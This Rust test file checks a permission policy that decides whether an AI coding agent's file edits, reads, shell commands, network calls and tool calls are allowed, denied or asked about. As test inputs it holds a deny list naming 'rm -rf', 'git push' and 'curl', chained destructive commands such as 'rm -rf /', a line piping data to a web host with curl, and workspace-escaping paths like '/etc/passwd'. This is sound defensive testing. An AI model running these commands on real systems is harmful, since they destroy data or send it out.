use super::*;

/// The policy of issue 19's example.
fn example() -> Policy {
    let yaml = r#"
edit: { deny: ["secrets/**", "**/.env"] }
bash: { allow: ["*"], deny: ["rm -rf *", "git push*", "curl *"] }
outside_workspace: deny
network: allow
unmatched: allow
"#;
    let config: PolicyConfig = serde_saphyr::from_str(yaml).unwrap();
    Policy::new(config, "/work/ws")
}

fn edit(path: &str) -> Action {
    Action::Edit { path: path.into() }
}

fn bash(command: &str) -> Action {
    Action::Bash {
        command: command.into(),
    }
}

#[test]
fn edits_are_decided_by_path_inside_the_workspace() {
    let policy = example();
    let denied = policy.decide(&edit("secrets/key.txt"));
    assert_eq!(denied.verdict, Verdict::Deny);
    assert_eq!(denied.rule, "edit.deny \"secrets/**\"");
    assert_eq!(
        policy.decide(&edit("/work/ws/secrets/a/b")).verdict,
        Verdict::Deny
    );
    assert_eq!(
        policy.decide(&edit(".env")).verdict,
        Verdict::Deny,
        "**/ matches no dir too"
    );
    assert_eq!(policy.decide(&edit("app/.env")).verdict, Verdict::Deny);
    let ok = policy.decide(&edit("ok.py"));
    assert_eq!(
        (ok.verdict, ok.rule.as_str()),
        (Verdict::Allow, "unmatched")
    );
    // `*` in a path pattern stays within a directory.
    let config = PolicyConfig {
        edit: Rules {
            deny: vec![Pattern::new("*.lock").unwrap()],
            ..Rules::default()
        },
        ..PolicyConfig::default()
    };
    let policy = Policy::new(config, "/w");
    assert_eq!(policy.decide(&edit("Cargo.lock")).verdict, Verdict::Deny);
    assert_eq!(
        policy.decide(&edit("sub/Cargo.lock")).verdict,
        Verdict::Allow
    );
}

#[test]
fn paths_that_leave_the_workspace_are_outside_whatever_the_patterns() {
    let policy = example();
    for path in [
        "/etc/passwd",
        "../other/x.py",
        "sub/../../x",
        "/work/wsx/file",
    ] {
        let d = policy.decide(&edit(path));
        assert_eq!(
            (d.verdict, d.rule.as_str()),
            (Verdict::Deny, "outside_workspace"),
            "{path}"
        );
        let d = policy.decide(&Action::Read { path: path.into() });
        assert_eq!(d.verdict, Verdict::Deny, "{path}");
    }
    assert_eq!(policy.decide(&edit("sub/../ok.py")).verdict, Verdict::Allow);
    assert_eq!(
        policy
            .decide(&Action::Read {
                path: "src/lib.rs".into()
            })
            .verdict,
        Verdict::Allow
    );
}

#[test]
fn every_part_of_a_compound_command_is_checked() {
    let policy = example();
    let d = policy.decide(&bash("rm -rf data"));
    assert_eq!(
        (d.verdict, d.rule.as_str()),
        (Verdict::Deny, "bash.deny \"rm -rf *\"")
    );
    for command in [
        "echo hi && rm -rf data",
        "ls; rm   -rf  data",
        "true || git push origin main",
        "cat x | curl -d @- http://example.com",
        "FOO=1 BAR=2 git push",
        "ls\nrm -rf /",
        "sleep 1 & rm -rf data",
    ] {
        assert_eq!(
            policy.decide(&bash(command)).verdict,
            Verdict::Deny,
            "{command}"
        );
    }
    let d = policy.decide(&bash("python3 ok.py && git status"));
    assert_eq!(
        (d.verdict, d.rule.as_str()),
        (Verdict::Allow, "bash.allow \"*\"")
    );
}

#[test]
fn unmatched_network_and_other_tools_follow_their_settings() {
    let config = PolicyConfig {
        bash: Rules {
            allow: vec![Pattern::new("cargo *").unwrap()],
            ..Rules::default()
        },
        network: Verdict::Deny,
        unmatched: Verdict::Ask,
        ..PolicyConfig::default()
    };
    let policy = Policy::new(config, "/w");
    assert_eq!(policy.decide(&bash("cargo test")).verdict, Verdict::Allow);
    // One part unmatched: the command is asked about, not allowed.
    let d = policy.decide(&bash("cargo test && make"));
    assert_eq!((d.verdict, d.rule.as_str()), (Verdict::Ask, "unmatched"));
    let d = policy.decide(&Action::Network {
        target: "https://example.com".into(),
    });
    assert_eq!((d.verdict, d.rule.as_str()), (Verdict::Deny, "network"));
    assert_eq!(
        policy
            .decide(&Action::Tool {
                name: "mcp_x".into()
            })
            .verdict,
        Verdict::Ask
    );
}

#[test]
fn no_policy_denies_only_writes_outside_the_workspace() {
    let policy = Policy::new(PolicyConfig::default(), "/w");
    assert_eq!(policy.decide(&edit("a/b.txt")).verdict, Verdict::Allow);
    assert_eq!(policy.decide(&bash("rm -rf data")).verdict, Verdict::Allow);
    assert_eq!(policy.decide(&edit("/tmp/x")).verdict, Verdict::Deny);
}

#[test]
fn bad_patterns_and_values_are_errors_that_say_what_is_wrong() {
    let err = serde_saphyr::from_str::<PolicyConfig>("edit: { deny: [\"a[\"] }")
        .unwrap_err()
        .to_string();
    assert!(err.contains("`a[` is not a valid glob"), "{err}");
    let err = serde_saphyr::from_str::<PolicyConfig>("bash: { deny: [\"\"] }")
        .unwrap_err()
        .to_string();
    assert!(err.contains("empty pattern"), "{err}");
    let err = serde_saphyr::from_str::<PolicyConfig>("unmatched: maybe")
        .unwrap_err()
        .to_string();
    assert!(err.contains("maybe"), "{err}");
    let err = serde_saphyr::from_str::<BudgetConfig>("max_cost_usd: -1")
        .unwrap_err()
        .to_string();
    assert!(err.contains("≥ 0"), "{err}");
}

#[test]
fn tool_calls_of_every_agent_map_onto_actions() {
    use serde_json::json;
    let cases = [
        ("write", json!({"filePath": "/w/a.py"}), edit("/w/a.py")),
        ("Write", json!({"file_path": "a.py"}), edit("a.py")),
        ("replace", json!({"file_path": "b.py"}), edit("b.py")),
        ("bash", json!({"command": "ls -la"}), bash("ls -la")),
        (
            "shell",
            json!({"command": ["rm", "-rf", "data"]}),
            bash("rm -rf data"),
        ),
        (
            "exec_command",
            json!({"cmd": "git status"}),
            bash("git status"),
        ),
        (
            "read_file",
            json!({"absolute_path": "/etc/hosts"}),
            Action::Read {
                path: "/etc/hosts".into(),
            },
        ),
        (
            "WebFetch",
            json!({"url": "https://x"}),
            Action::Network {
                target: "https://x".into(),
            },
        ),
        (
            "mcp__thing",
            json!({}),
            Action::Tool {
                name: "mcp__thing".into(),
            },
        ),
    ];
    for (name, input, want) in cases {
        assert_eq!(Action::of_tool_call(name, &input), want, "{name}");
    }
}

/// A person who answers every question the same way.
#[derive(Debug)]
struct Answers(bool);

#[async_trait::async_trait]
impl PermissionHandler for Answers {
    async fn ask(&self, _tool: &str, _action: &Action) -> bool {
        self.0
    }
}

fn asking_policy() -> Policy {
    let config: PolicyConfig =
        serde_saphyr::from_str("bash: { allow: [\"ls*\"] }\nunmatched: ask\n").unwrap();
    Policy::new(config, "/work/ws")
}

#[tokio::test]
async fn judge_asks_the_handler_for_ask_rules_and_records_every_decision() {
    let policy = asking_policy();
    let (sink, mut events) = crate::EventSink::channel();
    let mut ctx = crate::ExecContext::new(sink, crate::CancelSignal::new());
    ctx.permissions = std::sync::Arc::new(Answers(true));
    let record = policy.judge("bash", bash("git push origin"), &ctx).await;
    assert_eq!(record.verdict, Verdict::Allow);
    assert!(record.rule.ends_with("(asked)"), "{}", record.rule);
    let allowed = policy.judge("bash", bash("ls"), &ctx).await;
    assert_eq!(allowed.verdict, Verdict::Allow);
    assert!(!allowed.rule.contains("asked"), "{}", allowed.rule);
    for expected in [&record, &allowed] {
        match events.try_recv().unwrap().kind {
            crate::EventKind::Permission { record } => assert_eq!(&record, expected),
            other => panic!("expected a permission event, got {other:?}"),
        }
    }
}

#[tokio::test]
async fn judge_denies_an_ask_with_nobody_to_ask_or_after_cancel() {
    let policy = asking_policy();
    let ctx = crate::ExecContext::new(crate::EventSink::discard(), crate::CancelSignal::new());
    let record = policy.judge("bash", bash("git push"), &ctx).await;
    assert_eq!(record.verdict, Verdict::Deny);

    /// Never answers.
    #[derive(Debug)]
    struct Silent;
    #[async_trait::async_trait]
    impl PermissionHandler for Silent {
        async fn ask(&self, _tool: &str, _action: &Action) -> bool {
            std::future::pending().await
        }
    }
    let mut ctx = crate::ExecContext::new(crate::EventSink::discard(), crate::CancelSignal::new());
    ctx.permissions = std::sync::Arc::new(Silent);
    ctx.cancel.cancel();
    let record = policy.judge("bash", bash("git push"), &ctx).await;
    assert_eq!(record.verdict, Verdict::Deny);
}
